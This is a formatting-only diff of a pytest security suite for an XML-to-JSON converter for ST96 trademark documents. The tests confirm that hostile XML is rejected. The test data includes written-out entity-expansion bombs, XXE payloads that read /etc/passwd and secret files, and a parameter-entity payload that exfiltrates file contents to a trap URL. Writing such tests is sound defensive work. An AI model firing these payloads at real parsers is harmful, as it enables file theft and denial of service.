@@ -38,8 +38,10 @@ from xml2json.safe import (
 
 TMK = "http://www.wipo.int/standards/XMLSchema/ST96/Trademark"
 COM = "http://www.wipo.int/standards/XMLSchema/ST96/Common"
-OPEN = (f'<tmk:TrademarkApplication xmlns:tmk="{TMK}" xmlns:com="{COM}" com:st96Version="V6_0">'
-        "<tmk:ApplicationFormName>{name}</tmk:ApplicationFormName>")
+OPEN = (
+    f'<tmk:TrademarkApplication xmlns:tmk="{TMK}" xmlns:com="{COM}" com:st96Version="V6_0">'
+    "<tmk:ApplicationFormName>{name}</tmk:ApplicationFormName>"
+)
 CLOSE = "</tmk:TrademarkApplication>"
 
 
@@ -48,8 +50,7 @@ def tmk(body: str = "", name: str = "Form é") -> str:
     return OPEN.format(name=name) + body + CLOSE
 
 
-def expect(exc_info: pytest.ExceptionInfo[Xml2JsonError], cls: type[Xml2JsonError], code: str,
-           fragment: str) -> None:
+def expect(exc_info: pytest.ExceptionInfo[Xml2JsonError], cls: type[Xml2JsonError], code: str, fragment: str) -> None:
     exc = exc_info.value
     assert type(exc) is cls, f"{type(exc).__name__}: {exc}"
     assert exc.code == code, str(exc)
@@ -80,8 +81,7 @@ BILLION_LAUGHS = """<?xml version="1.0"?>
 
 
 def quadratic_blowup() -> str:
-    return ('<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "' + "a" * 100_000 + '">]>'
-            + tmk("", name="&a;" * 20_000))
+    return '<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "' + "a" * 100_000 + '">]>' + tmk("", name="&a;" * 20_000)
 
 
 def doctype_cases(trap_url: str, secret_uri: str) -> dict[str, tuple[str, str]]:
@@ -92,24 +92,32 @@ def doctype_cases(trap_url: str, secret_uri: str) -> dict[str, tuple[str, str]]:
         "billion-laughs": (BILLION_LAUGHS, internal),
         "quadratic-blowup": (quadratic_blowup(), internal),
         "external-general-entity-file": (
-            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret_uri}">]>' + tmk(name="&xxe;"), internal),
+            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret_uri}">]>' + tmk(name="&xxe;"),
+            internal,
+        ),
         "external-general-entity-etc-passwd": (
-            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + tmk(name="&xxe;"), internal),
+            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + tmk(name="&xxe;"),
+            internal,
+        ),
         "external-general-entity-http": (
-            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{trap_url}/general">]>' + tmk(name="&xxe;"), internal),
-        "external-parameter-entity-file": (
-            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{secret_uri}"> %p;]>' + tmk(), internal),
+            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{trap_url}/general">]>' + tmk(name="&xxe;"),
+            internal,
+        ),
+        "external-parameter-entity-file": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{secret_uri}"> %p;]>' + tmk(), internal),
         "external-parameter-entity-http": (
-            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{trap_url}/param"> %p;]>' + tmk(name="&leak;"), internal),
+            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{trap_url}/param"> %p;]>' + tmk(name="&leak;"),
+            internal,
+        ),
         "parameter-entity-exfiltration": (
             f'<!DOCTYPE r [<!ENTITY % file SYSTEM "{secret_uri}">'
-            f'<!ENTITY % eval "<!ENTITY &#x25; send SYSTEM \'{trap_url}/x?%file;\'>"> %eval; %send;]>'
-            + tmk(), internal),
+            f"<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '{trap_url}/x?%file;'>\"> %eval; %send;]>" + tmk(),
+            internal,
+        ),
         "external-dtd-http": (f'<!DOCTYPE r SYSTEM "{trap_url}/dtd">' + tmk(), external),
         "external-dtd-public": (f'<!DOCTYPE r PUBLIC "-//EVIL//DTD//EN" "{trap_url}/public">' + tmk(), external),
         "external-dtd-file": (f'<!DOCTYPE r SYSTEM "{secret_uri}">' + tmk(), external),
         "external-dtd-dev-zero": ('<!DOCTYPE r SYSTEM "/dev/zero">' + tmk(), external),
-        "internal-subset-only": ('<!DOCTYPE r [<!ELEMENT r ANY>]>' + tmk(), internal),
+        "internal-subset-only": ("<!DOCTYPE r [<!ELEMENT r ANY>]>" + tmk(), internal),
         "doctype-after-comment-and-pi": ('<?xml version="1.0"?><!-- c --><?pi x?><!DOCTYPE r>' + tmk(), internal),
     }
 
@@ -128,10 +136,19 @@ def test_doctype_attacks_are_rejected_without_expansion_or_fetch(name: str, trap
     assert "FETCHED" not in str(info.value)
 
 
-@pytest.mark.parametrize("name", ["billion-laughs", "external-general-entity-http", "external-dtd-http",
-                                  "external-parameter-entity-http", "external-dtd-file"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "billion-laughs",
+        "external-general-entity-http",
+        "external-dtd-http",
+        "external-parameter-entity-http",
+        "external-dtd-file",
+    ],
+)
 def test_doctype_attacks_are_rejected_in_utf16_and_from_files_and_streams(
-        name: str, trap: Any, secret: Any, tmp_path: Path) -> None:
+    name: str, trap: Any, secret: Any, tmp_path: Path
+) -> None:
     doc, _ = doctype_cases(trap.url, secret.uri)[name]
     utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + doc.split("?>", 1)[-1]).encode("utf-16")
     path = tmp_path / "attack.xml"
@@ -145,9 +162,11 @@ def test_doctype_attacks_are_rejected_in_utf16_and_from_files_and_streams(
 def test_second_line_no_network_even_without_the_doctype_gate(trap: Any) -> None:
     """Bypassing the DOCTYPE gate (a raw parser from the factory) still fetches nothing over the network,
     and the DTD check after parsing rejects the document."""
-    for doc in (f'<!DOCTYPE r SYSTEM "{trap.url}/raw-dtd"><r/>',
-                f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{trap.url}/raw-pe"> %p;]><r/>',
-                f'<!DOCTYPE r [<!ENTITY x SYSTEM "{trap.url}/raw-ge">]><r>&x;</r>'):
+    for doc in (
+        f'<!DOCTYPE r SYSTEM "{trap.url}/raw-dtd"><r/>',
+        f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{trap.url}/raw-pe"> %p;]><r/>',
+        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{trap.url}/raw-ge">]><r>&x;</r>',
+    ):
         try:
             root = etree.fromstring(doc.encode(), make_parser(Limits()))
         except etree.XMLSyntaxError as exc:
@@ -174,8 +193,10 @@ def test_predefined_and_character_references_are_plain_text() -> None:
 
 
 def test_xinclude_is_unknown_content_and_never_processed(trap: Any, secret: Any) -> None:
-    body = (f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.uri}" parse="text"/>'
-            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{trap.url}/xi"/>')
+    body = (
+        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.uri}" parse="text"/>'
+        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{trap.url}/xi"/>'
+    )
     result = convert(tmk(body).encode())
     out = dumps_json(result.data).decode()
     assert secret.token not in out and "FETCHED" not in out
@@ -199,9 +220,13 @@ def test_no_xinclude_call_anywhere_in_the_package() -> None:
 @pytest.mark.parametrize("where", ["remote", "local"])
 def test_schema_location_is_never_fetched_nor_kept(where: str, trap: Any, secret: Any) -> None:
     target = f"{trap.url}/schema.xsd" if where == "remote" else secret.uri
-    doc = tmk().replace("com:st96Version", 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
-                        f'xsi:schemaLocation="{TMK} {target}" xsi:noNamespaceSchemaLocation="{target}" '
-                        "com:st96Version", 1)
+    doc = tmk().replace(
+        "com:st96Version",
+        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+        f'xsi:schemaLocation="{TMK} {target}" xsi:noNamespaceSchemaLocation="{target}" '
+        "com:st96Version",
+        1,
+    )
     result = convert(doc.encode())
     assert result.data == {"trademarkApplication": {"st96Version": "V6_0", "applicationFormName": "Form é"}}
     assert result.warnings == ()
@@ -211,11 +236,15 @@ def test_schema_location_is_never_fetched_nor_kept(where: str, trap: Any, secret
 
 
 def test_100000_deep_nesting_is_limit_depth_in_bounded_memory(isolated: Any) -> None:
-    run = isolated("""
+    run = isolated(
+        """
         from xml2json import Converter
         doc = b"<a>" * 100_000 + b"</a>" * 100_000
         print(json.dumps(outcome(lambda: Converter().xml_to_json(doc) and None)))
-    """, mem_mb=1024, timeout=60)
+    """,
+        mem_mb=1024,
+        timeout=60,
+    )
     assert run.result["error"] == "UnsafeXMLError"
     assert run.result["code"] == "limit-depth"
     assert "Excessive depth in document: 256" in run.result["message"]
@@ -223,14 +252,18 @@ def test_100000_deep_nesting_is_limit_depth_in_bounded_memory(isolated: Any) -> 
 
 
 def test_50mb_attribute_and_11mb_text_are_limit_text_size_in_bounded_memory(isolated: Any) -> None:
-    run = isolated("""
+    run = isolated(
+        """
         from xml2json import Converter
         conv = Converter()
         attr = b'<a b="' + b"x" * 50_000_000 + b'"/>'
         text = b"<a>" + b"x" * 11_000_000 + b"</a>"
         print(json.dumps([outcome(lambda: conv.xml_to_json(attr) and None),
                           outcome(lambda: conv.xml_to_json(text) and None)]))
-    """, mem_mb=1536, timeout=60)
+    """,
+        mem_mb=1536,
+        timeout=60,
+    )
     for r in run.result:
         assert r["error"] == "UnsafeXMLError" and r["code"] == "limit-text-size", r
         assert "larger than allowed" in r["message"]
@@ -256,31 +289,66 @@ def _attrs(n: int) -> bytes:
 
 
 LIMIT_CASES = {
-    "depth-below-libxml2": (Limits(max_depth=10), b"<a>" * 11 + b"</a>" * 11, "limit-depth",
-                            "nesting deeper than 10 levels"),
-    "depth-above-libxml2": (Limits(max_depth=300), b"<a>" * 301 + b"</a>" * 301, "limit-depth",
-                            "nesting deeper than 300 levels"),
-    "text": (Limits(max_text_bytes=100), b"<a>" + b"x" * 101 + b"</a>", "limit-text-size",
-             "longer than 100 characters"),
+    "depth-below-libxml2": (
+        Limits(max_depth=10),
+        b"<a>" * 11 + b"</a>" * 11,
+        "limit-depth",
+        "nesting deeper than 10 levels",
+    ),
+    "depth-above-libxml2": (
+        Limits(max_depth=300),
+        b"<a>" * 301 + b"</a>" * 301,
+        "limit-depth",
+        "nesting deeper than 300 levels",
+    ),
+    "text": (
+        Limits(max_text_bytes=100),
+        b"<a>" + b"x" * 101 + b"</a>",
+        "limit-text-size",
+        "longer than 100 characters",
+    ),
     "attribute": (Limits(max_text_bytes=100), b'<a b="' + b"x" * 101 + b'"/>', "limit-text-size", "longer than 100"),
-    "comment": (Limits(max_text_bytes=100), b"<a><!--" + b"x" * 101 + b"--></a>", "limit-text-size",
-                "longer than 100"),
+    "comment": (Limits(max_text_bytes=100), b"<a><!--" + b"x" * 101 + b"--></a>", "limit-text-size", "longer than 100"),
     "pi": (Limits(max_text_bytes=100), b"<a><?pi " + b"x" * 101 + b"?></a>", "limit-text-size", "longer than 100"),
-    "text-above-libxml2": (Limits(max_text_bytes=12_000_000), b"<a>" + b"x" * 12_000_001 + b"</a>",
-                           "limit-text-size", "longer than 12000000"),
-    "elements": (Limits(max_elements_per_record=100), b"<a>" + b"<b/>" * 100 + b"</a>", "limit-elements",
-                 "101 elements; the limit is 100"),
+    "text-above-libxml2": (
+        Limits(max_text_bytes=12_000_000),
+        b"<a>" + b"x" * 12_000_001 + b"</a>",
+        "limit-text-size",
+        "longer than 12000000",
+    ),
+    "elements": (
+        Limits(max_elements_per_record=100),
+        b"<a>" + b"<b/>" * 100 + b"</a>",
+        "limit-elements",
+        "101 elements; the limit is 100",
+    ),
     "attributes-default": (Limits(), _attrs(257), "limit-attributes", "more than 256 attributes"),
     "attributes-100000": (Limits(), _attrs(100_000), "limit-attributes", "more than 256 attributes"),
     "attributes-utf16": (Limits(), _attrs(300).decode().encode("utf-16"), "limit-attributes", "more than 256"),
-    "attributes-utf16-with-3c-bytes": (Limits(), _attrs(300).decode().replace('"v"', '"\u3c3c"').encode("utf-16-le")
-                                       .join([b"\xff\xfe", b""]), "limit-attributes", "more than 256"),
-    "attributes-latin1": (Limits(), b"<?xml version='1.0' encoding='ISO-8859-1'?>" + _attrs(257),
-                          "limit-attributes", "more than 256"),
-    "attributes-configured": (Limits(max_attributes=3), b'<a><b x="=" y="=" z="="/><c a="" b="" c="" d=""/></a>',
-                              "limit-attributes", "more than 3 attributes"),
-    "document-size": (Limits(max_document_bytes=1000), b"<a>" + b" " * 1000 + b"</a>", "limit-document-size",
-                      "1000 bytes"),
+    "attributes-utf16-with-3c-bytes": (
+        Limits(),
+        _attrs(300).decode().replace('"v"', '"\u3c3c"').encode("utf-16-le").join([b"\xff\xfe", b""]),
+        "limit-attributes",
+        "more than 256",
+    ),
+    "attributes-latin1": (
+        Limits(),
+        b"<?xml version='1.0' encoding='ISO-8859-1'?>" + _attrs(257),
+        "limit-attributes",
+        "more than 256",
+    ),
+    "attributes-configured": (
+        Limits(max_attributes=3),
+        b'<a><b x="=" y="=" z="="/><c a="" b="" c="" d=""/></a>',
+        "limit-attributes",
+        "more than 3 attributes",
+    ),
+    "document-size": (
+        Limits(max_document_bytes=1000),
+        b"<a>" + b" " * 1000 + b"</a>",
+        "limit-document-size",
+        "1000 bytes",
+    ),
 }
 
 
@@ -329,12 +397,15 @@ def test_long_names_hit_libxml2s_fixed_name_limit() -> None:
 def test_many_attributes_are_rejected_before_lxml_reads_them(isolated: Any) -> None:
     """lxml reads an element's attribute values in quadratic time (100 000 take minutes):
     the attribute limit is checked before the converter sees the tree."""
-    run = isolated(f"""
+    run = isolated(
+        f"""
         from xml2json import Converter
         attrs = " ".join(f'x{{i}}="v"' for i in range(100_000))
         doc = {tmk()!r}.replace("com:st96Version", attrs + " com:st96Version", 1).encode()
         print(json.dumps(outcome(lambda: Converter().xml_to_json(doc) and None)))
-    """, timeout=20)
+    """,
+        timeout=20,
+    )
     assert run.result["code"] == "limit-attributes"
     assert run.result["error"] == "UnsafeXMLError"
 
@@ -352,30 +423,50 @@ def test_error_messages_are_clipped() -> None:
 EXPECTED = {"trademarkApplication": {"st96Version": "V6_0", "applicationFormName": "Form é"}}
 
 
-@pytest.mark.parametrize(("name", "data"), [
-    ("utf-8", tmk().encode("utf-8")),
-    ("utf-8-bom", b"\xef\xbb\xbf" + tmk().encode("utf-8")),
-    ("utf-16-bom-declared", ('<?xml version="1.0" encoding="UTF-16"?>' + tmk()).encode("utf-16")),
-    ("utf-16-bom-undeclared", tmk().encode("utf-16")),
-    ("utf-16be-bom", b"\xfe\xff" + tmk().encode("utf-16-be")),
-    ("utf-16le-declared-no-bom", ('<?xml version="1.0" encoding="UTF-16"?>' + tmk()).encode("utf-16-le")),
-    ("iso-8859-1-declared", ('<?xml version="1.0" encoding="ISO-8859-1"?>' + tmk()).encode("latin-1")),
-    ("str-with-latin1-declaration", '<?xml version="1.0" encoding="ISO-8859-1"?>' + tmk()),
-    ("str-with-utf16-declaration", "<?xml version='1.0' encoding='UTF-16'?>" + tmk()),
-])
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("utf-8", tmk().encode("utf-8")),
+        ("utf-8-bom", b"\xef\xbb\xbf" + tmk().encode("utf-8")),
+        ("utf-16-bom-declared", ('<?xml version="1.0" encoding="UTF-16"?>' + tmk()).encode("utf-16")),
+        ("utf-16-bom-undeclared", tmk().encode("utf-16")),
+        ("utf-16be-bom", b"\xfe\xff" + tmk().encode("utf-16-be")),
+        ("utf-16le-declared-no-bom", ('<?xml version="1.0" encoding="UTF-16"?>' + tmk()).encode("utf-16-le")),
+        ("iso-8859-1-declared", ('<?xml version="1.0" encoding="ISO-8859-1"?>' + tmk()).encode("latin-1")),
+        ("str-with-latin1-declaration", '<?xml version="1.0" encoding="ISO-8859-1"?>' + tmk()),
+        ("str-with-utf16-declaration", "<?xml version='1.0' encoding='UTF-16'?>" + tmk()),
+    ],
+)
 def test_legal_encodings_convert(name: str, data: bytes | str) -> None:
     assert convert(data).data == EXPECTED
 
 
-@pytest.mark.parametrize(("name", "data", "fragment"), [
-    ("invalid-utf-8", tmk().encode("utf-8").replace("é".encode(), b"\xff\xfe"), "Invalid bytes in character encoding"),
-    ("overlong-utf-8", tmk().encode("utf-8").replace("é".encode(), b"\xc0\xaf"), "Invalid bytes in character encoding"),
-    ("latin-1-declared-utf-8", ('<?xml version="1.0" encoding="UTF-8"?>' + tmk()).encode("latin-1"),
-     "Invalid bytes in character encoding"),
-    ("utf-16-without-bom-or-declaration", tmk().encode("utf-16-le"), "UTF-16 or UTF-32 without a byte order mark"),
-    ("unknown-encoding", ('<?xml version="1.0" encoding="X-NO-SUCH"?>' + tmk(name="e")).encode(),
-     "Unsupported encoding"),
-])
+@pytest.mark.parametrize(
+    ("name", "data", "fragment"),
+    [
+        (
+            "invalid-utf-8",
+            tmk().encode("utf-8").replace("é".encode(), b"\xff\xfe"),
+            "Invalid bytes in character encoding",
+        ),
+        (
+            "overlong-utf-8",
+            tmk().encode("utf-8").replace("é".encode(), b"\xc0\xaf"),
+            "Invalid bytes in character encoding",
+        ),
+        (
+            "latin-1-declared-utf-8",
+            ('<?xml version="1.0" encoding="UTF-8"?>' + tmk()).encode("latin-1"),
+            "Invalid bytes in character encoding",
+        ),
+        ("utf-16-without-bom-or-declaration", tmk().encode("utf-16-le"), "UTF-16 or UTF-32 without a byte order mark"),
+        (
+            "unknown-encoding",
+            ('<?xml version="1.0" encoding="X-NO-SUCH"?>' + tmk(name="e")).encode(),
+            "Unsupported encoding",
+        ),
+    ],
+)
 def test_broken_encodings_are_xml_encoding(name: str, data: bytes, fragment: str) -> None:
     with pytest.raises(MalformedXMLError) as info:
         convert(data)
@@ -433,7 +524,8 @@ def test_many_text_pieces_convert_in_linear_time(shape: str, isolated: Any) -> N
     appended to an ever longer string: quadratic. The time is compared, in one child process,
     with that of a document of the same size whose pieces the converter handles without
     concatenating, so the bound does not depend on the machine's speed or load."""
-    run = isolated(f"""
+    run = isolated(
+        f"""
         import time
         from xml2json import Converter
         conv = Converter()
@@ -455,7 +547,9 @@ def test_many_text_pieces_convert_in_linear_time(shape: str, isolated: Any) -> N
                 t = time.perf_counter(); conv.xml_to_json(data); times.append(time.perf_counter() - t)
             return min(times)
         print(json.dumps(best(attack) / best(baseline)))
-    """, timeout=120)
+    """,
+        timeout=120,
+    )
     assert run.result < 3, f"{run.result:.1f} times as long as a document of the same size"
 
 
@@ -487,17 +581,46 @@ def test_doctype_gate_edge_cases(data: bytes, rejected: bool | None) -> None:
             assert [el.tag for _, el in iterparse(stream, Limits())] == ["r"]
 
 
-_PIECES = st.sampled_from([
-    b" ", b"\n", b"\t", b"\r\n", b"<!---->", b"<!-- <!DOCTYPE r> -->", b"<!-- - -->", b"<!-- -- -->", b"<!--->",
-    b"<?pi x?>", b"<?pi <!DOCTYPE r>?>", b"<?xml-stylesheet href='a'?>", b"<?xml version='1.0'?>", b"<!DOCTYPE r>",
-    b"<!DOCTYPE r [<!ENTITY x 'y'>]>", b"<!doctype r>", b"<![CDATA[x]]>", b"\xef\xbb\xbf", b"\x00", b"<", b"?>",
-    b"-->", b"\xc3\xa9", "é".encode("latin-1"),
-])
-_DECLS = st.sampled_from([b"", b"<?xml version='1.0'?>", b'<?xml version="1.0" encoding="UTF-8"?>',
-                          b"<?xml version='1.0' encoding='utf8' standalone='yes'?>",
-                          b"<?xml version='1.0' encoding='ISO-8859-1'?>",
-                          b"<?xml version='1.0' encoding='ISO-2022-JP'?>",
-                          b"<?xml version='1.0' encoding='UTF-16'?>", b"\xef\xbb\xbf<?xml version='1.0'?>"])
+_PIECES = st.sampled_from(
+    [
+        b" ",
+        b"\n",
+        b"\t",
+        b"\r\n",
+        b"<!---->",
+        b"<!-- <!DOCTYPE r> -->",
+        b"<!-- - -->",
+        b"<!-- -- -->",
+        b"<!--->",
+        b"<?pi x?>",
+        b"<?pi <!DOCTYPE r>?>",
+        b"<?xml-stylesheet href='a'?>",
+        b"<?xml version='1.0'?>",
+        b"<!DOCTYPE r>",
+        b"<!DOCTYPE r [<!ENTITY x 'y'>]>",
+        b"<!doctype r>",
+        b"<![CDATA[x]]>",
+        b"\xef\xbb\xbf",
+        b"\x00",
+        b"<",
+        b"?>",
+        b"-->",
+        b"\xc3\xa9",
+        "é".encode("latin-1"),
+    ]
+)
+_DECLS = st.sampled_from(
+    [
+        b"",
+        b"<?xml version='1.0'?>",
+        b'<?xml version="1.0" encoding="UTF-8"?>',
+        b"<?xml version='1.0' encoding='utf8' standalone='yes'?>",
+        b"<?xml version='1.0' encoding='ISO-8859-1'?>",
+        b"<?xml version='1.0' encoding='ISO-2022-JP'?>",
+        b"<?xml version='1.0' encoding='UTF-16'?>",
+        b"\xef\xbb\xbf<?xml version='1.0'?>",
+    ]
+)
 
 
 @settings(max_examples=300, deadline=None, derandomize=os.environ.get("CI") == "true")
